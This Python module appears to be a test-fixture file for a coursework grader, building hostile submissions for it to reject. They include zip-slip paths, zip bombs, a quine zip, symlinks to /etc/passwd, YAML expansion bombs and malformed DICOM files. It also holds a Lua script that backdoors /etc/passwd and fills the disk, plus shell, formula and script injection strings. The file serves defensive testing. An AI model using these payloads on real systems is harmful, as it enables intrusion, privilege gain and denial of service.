"""Hostile submissions, each made from an honest one: what the grader must survive."""

from __future__ import annotations

import io
import json
import os
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

from pacslab.grading.classroom import Manner

Spoil = Callable[[Path], None]


def _add(*entries: tuple[str, bytes]) -> Spoil:
    def spoil(path: Path) -> None:
        with zipfile.ZipFile(path, "a") as archive:
            for name, content in entries:
                archive.writestr(name, content)

    return spoil


def _special(kind: int, content: bytes) -> Spoil:
    def spoil(path: Path) -> None:
        entry = zipfile.ZipInfo("deid/special.dcm")
        entry.create_system = 3
        entry.external_attr = (kind | 0o777) << 16
        with zipfile.ZipFile(path, "a") as archive:
            archive.writestr(entry, content)

    return spoil


def replaced(name: str, content: bytes) -> Spoil:
    """Return what replaces one file of a submission."""

    def spoil(path: Path) -> None:
        with zipfile.ZipFile(path) as archive:
            kept = {one: archive.read(one) for one in archive.namelist() if one != name}
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for one, old in kept.items():
                archive.writestr(one, old)
            archive.writestr(name, content)

    return spoil


def _noted(change: Callable[[dict[str, Any]], Any]) -> Spoil:
    """Change ``submission.json``."""

    def spoil(path: Path) -> None:
        with zipfile.ZipFile(path) as archive:
            note = json.loads(archive.read("submission.json"))
        content = change(note)
        text = content if isinstance(content, bytes) else json.dumps(content or note).encode()
        replaced("submission.json", text)(path)

    return spoil


def _many_entries(path: Path) -> None:
    """Write the table of a million files by hand: the zipfile module needs a minute for it."""
    name = b"deid/%07d"
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 0, 0, 33, 0, 0, 0, 12, 0) + name % 0
    with path.open("wb") as file:
        file.write(local)
        start = len(local)
        for block in range(1000):
            table = b"".join(
                struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 12, 0, 0, 0, 0, 0, 0)
                + name % number
                for number in range(block * 1000, block * 1000 + 1000)
            )
            file.write(table)
        size = file.tell() - start
        file.write(struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, size, start, 0))


def _bomb(path: Path) -> None:
    """Put 256 MB of zeros behind a declaration of a few kilobytes."""
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    block = bytes(1 << 20)
    packed = b"".join(packer.compress(block) for _ in range(256)) + packer.flush()
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("deid/bomb.dcm", b"x" * 4096)
        offset = next(one.header_offset for one in archive.infolist() if one.filename == "deid/bomb.dcm")
    content = path.read_bytes()
    start = content.rfind(b"PK\5\6")
    table_size, table_at = struct.unpack("<2L", content[start + 12 : start + 20])
    table = bytearray(content[table_at : table_at + table_size])
    entry = table.rfind(b"PK\1\2")
    table[entry + 20 : entry + 24] = struct.pack("<L", len(packed))
    header = content[offset : offset + 30 + len("deid/bomb.dcm")]
    body = content[:offset] + header + packed
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, *[table.count(b"PK\1\2")] * 2, len(table), len(body), 0)
    path.write_bytes(body + bytes(table) + end)


def _declared_bomb(path: Path) -> None:
    """Hold many files of zeros that honestly say that they are 100 MB each."""
    block = bytes(1 << 20)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for number in range(6):
            with archive.open(f"deid/zeros-{number}.dcm", "w", force_zip64=False) as file:
                for _ in range(100):
                    file.write(block)


def _nested_bomb(path: Path) -> None:
    content = b"0" * 1_000_000
    for depth in range(8):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(10):
                archive.writestr(f"{depth}-{number}.zip", content)
        content = buffer.getvalue()
    _add(("deid/nested.zip", content))(path)


def _quine(path: Path) -> None:
    """Hold a copy of the ZIP file in itself, as a quine's outer shell does, and two entries over the same bytes."""
    copy = path.read_bytes()
    _add(("deid/quine.zip", copy))(path)
    content = path.read_bytes()
    start = content.rfind(b"PK\5\6")
    table_size, table_at = struct.unpack("<2L", content[start + 12 : start + 20])
    table = content[table_at : table_at + table_size]
    last = table[table.rfind(b"PK\1\2") :].replace(b"quine.zip", b"again.zip")
    count = struct.unpack("<H", content[start + 10 : start + 12])[0] + 1
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, table_size + len(last), table_at, 0)
    path.write_bytes(content[:table_at] + table + last + end)


def _nul_in_name(path: Path) -> None:
    _add(("deid/aXb.dcm", b"x"))(path)
    path.write_bytes(path.read_bytes().replace(b"deid/aXb.dcm", b"deid/a\0b.dcm"))


def _cut(path: Path) -> None:
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


def _not_a_file(path: Path) -> None:
    path.unlink()
    path.symlink_to("/etc/passwd")


def _fifo(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def _deep(_note: dict[str, Any]) -> bytes:
    return b'{"objectives":' + b"[" * 200_000 + b"]" * 200_000 + b"}"


def _absurd(note: dict[str, Any]) -> bytes:
    note["objectives"] = {"archive-title": {"attempts": 123456789}}
    return json.dumps(note).replace("123456789", "9" * 100_000).encode()


def _negative(note: dict[str, Any]) -> dict[str, Any]:
    note["objectives"]["close-web"] = {"hints": -100}
    return note


def _everything_earned(note: dict[str, Any]) -> dict[str, Any]:
    """Say that everything was reached; only what is replayed counts."""
    for one in note["objectives"].values():
        one["earned"] = True
    return note


LEADS_OUT = "a path that leads out"
ZIPS: dict[str, Spoil] = {
    LEADS_OUT: _add(("../../outside.txt", b"x")),
    "an absolute path": _add(("/tmp/pacslab-outside.txt", b"x")),  # noqa: S108
    "a path of Windows": _add(("deid\\..\\..\\outside.txt", b"x")),
    "a drive": _add(("C:/outside.txt", b"x")),
    "a symbolic link": _special(stat.S_IFLNK, b"/etc/passwd"),
    "a device": _special(stat.S_IFCHR, b""),
    "a named pipe": _special(stat.S_IFIFO, b""),
    "a million entries": _many_entries,
    "a bomb that lies": _bomb,
    "a bomb that says so": _declared_bomb,
    "a quine": _quine,
    "a name of 64 KB": _add(("deid/" + "n" * 65_000, b"x")),
    "a name with NUL": _nul_in_name,
    "a name that reads from right to left": _add(("deid/mcd.\u202egnp.exe", b"x")),
    "a name twice": _add(("deid/one.dcm", b"x"), ("deid/ONE.dcm", b"y")),
    "a tower of folders": _add(("deid/" + "a/" * 60 + "x.dcm", b"x")),
    "JSON without bottom": _noted(_deep),
    "absurd numbers": _noted(_absurd),
    "negative hints": _noted(_negative),
    "a note that is no object": replaced("submission.json", b"[1, 2, 3]"),
    "no note": replaced("submission.json", b""),
    "half a file": _cut,
    "a link instead of a file": _not_a_file,
    "a pipe instead of a file": _fifo,
}
"""ZIP files that cannot be used: each earns nothing, with the reason."""

HARMLESS: dict[str, Spoil] = {
    "nested bombs": _nested_bomb,
    "claims to have earned everything": _noted(_everything_earned),
}
"""ZIP files that are odd, and earn what the honest one earned."""

_FILLING_SCRIPT = b"""
os.execute("touch /tmp/pacslab-outside; touch /etc/orthanc/outside; sleep 600 &")
local outside = io.open("/etc/passwd", "a")
if outside then outside:write("pacslab-outside::0:0::/:/bin/sh\\n") end
local disk = io.open("/var/lib/orthanc/db/full", "w")
while true do disk:write(string.rep("x", 1048576)) end
"""
FILLS_THE_DISK = Manner(
    "a script that fills the disk",
    options={"ExecuteLuaEnabled": True, "LuaScripts": ["evil.lua"]},
    spoil=_add(("configuration/evil.lua", _FILLING_SCRIPT)),
    started=False,
)
"""A script that was really handed in: not even the sandbox starts it, as it is no rule about a request."""

_HTML = '<script>alert(1)</script>$(touch /tmp/pacslab-outside)`id`;=cmd|"/c calc"!A1'
HANDOVER_WITH_CODE = f"""
web:
  radiologist: {{username: '{_HTML.replace("'", "''")}', password: '{_HTML.replace("'", "''")}'}}
  administrator: {{username: '${{PATH}}', password: '../../etc/passwd'}}
dicom: {{called_ae_title: '<b>$(id)</b>'}}
"""

_QUOTED = json.dumps(_HTML)
_IN_FIELDS = {
    "address": f"web: {{url: {_QUOTED}}}\ndicom: {{called_ae_title: A}}\n",
    "host": 'web: {url: "http://127.0.0.1:22/$(id)"}\ndicom: {called_ae_title: A}\n',
    "authority": f"web: {{ca: {_QUOTED}}}\ndicom: {{called_ae_title: A}}\n",
    "title": f"dicom: {{called_ae_title: {_QUOTED}}}\n",
    "key": "dicom: {called_ae_title: A, tls: {ca: a.pem, devices: {CT01: {certificate: $(id), key: /etc/shadow}}}}",
    "a field of its own": f"{_QUOTED}: {_QUOTED}\ndicom: {{called_ae_title: A}}\n",
}
"""Fields that are no free text: what stands there is refused before anything is started."""

CONFIGURATIONS: dict[str, dict[str, Any]] = {
    "loads a plugin": {"Plugins": ["evil.so"]},
    "runs a Lua script": {"LuaScripts": ["evil.lua"]},
    "writes elsewhere": {"StorageDirectory": "/etc"},
    "names /etc/passwd as certificate": {"DicomTlsEnabled": True, "DicomTlsCertificate": "/etc/passwd"},
    "names a file above its folder": {"DicomTlsTrustedCertificates": "../../../../etc/passwd"},
    "points at another host": {
        "DicomModalities": {"CT01": {"AET": "CT01", "Host": "192.0.2.7", "Port": 4242}},
    },
    "has another server as a peer": {"OrthancPeers": {"peer": ["http://192.0.2.7:8042/", "a", "b"]}},
    "asks for 10,000 threads": {"HttpThreadsCount": 10_000},
    "keeps a disk full": {"MaximumStorageCacheSize": 10_000_000},
    "takes another port": {"HttpPort": 22},
    "listens everywhere": {"HttpBindAddresses": ["0.0.0.0"]},  # noqa: S104
    "reads the machine's variables": {"Name": "${HOME}"},
    "serves a folder": {"ServeFolders": {"/": "/"}},
    "sends worklists from elsewhere": {"Worklists": {"Enable": True, "Database": "/etc"}},
    "asks another server who may": {"Authorization": {"WebService": "http://192.0.2.7/"}},
    "has a DICOMweb server elsewhere": {"DicomWeb": {"Enable": True, "Servers": {"x": ["http://192.0.2.7/"]}}},
    "has a number without end": {"HttpTimeout": 10**3000},
}
"""Options that are not started on the grader's machine: the server earns nothing, with the reason; the rest counts."""


def _deflated_bomb() -> bytes:
    uid = b"1.2.840.10008.1.2.1.99"
    element = b"\x02\x00\x10\x00UI" + struct.pack("<H", len(uid)) + uid
    meta = b"\x02\x00\x00\x00UL\x04\x00" + struct.pack("<L", len(element)) + element
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(160)) + packer.flush()
    return bytes(128) + b"DICM" + meta + packed


DICOM: dict[str, bytes] = {
    "a file of noise": bytes(range(256)) * 64,
    "a sequence without bottom": bytes(128)
    + b"DICM"
    + (b"\x08\x00\x40\x11SQ\0\0\xff\xff\xff\xff\xfe\xff\x00\xe0\xff\xff\xff\xff") * 20_000,
    "a length of four gigabytes": bytes(128) + b"DICM" + b"\xe0\x7f\x10\x00OB\0\0\xfe\xff\xff\xff",
    "a deflated bomb": _deflated_bomb(),
}
"""Files in the output that hurt parsers: they are named, and the images beside them count."""


def hostile_manners() -> dict[str, Manner]:
    """Return every hostile manner by name."""
    made = [Manner(name, spoil=spoil, readable=False) for name, spoil in ZIPS.items()]
    made += [Manner(name, spoil=spoil) for name, spoil in HARMLESS.items()]
    made += [Manner(name, options=options, started=False) for name, options in CONFIGURATIONS.items()]
    made += [
        Manner(f"hides {name}", spoil=_add((f"deid/{number}.dcm", content)))
        for number, (name, content) in enumerate(DICOM.items())
    ]
    made.append(Manner("a handover with code", handover=HANDOVER_WITH_CODE, clinic=False))
    made += [
        Manner(f"a handover with code as {name}", handover=text, started=False) for name, text in _IN_FIELDS.items()
    ]
    made.append(FILLS_THE_DISK)
    made.append(Manner("a handover of many brackets", handover="[" * 100_000, started=False))
    made.append(Manner("a handover that unfolds", handover=_unfolding(), started=False))
    return {one.name: one for one in made}


def _unfolding() -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    return "\n".join(lines) + "\nweb: *a9\n"
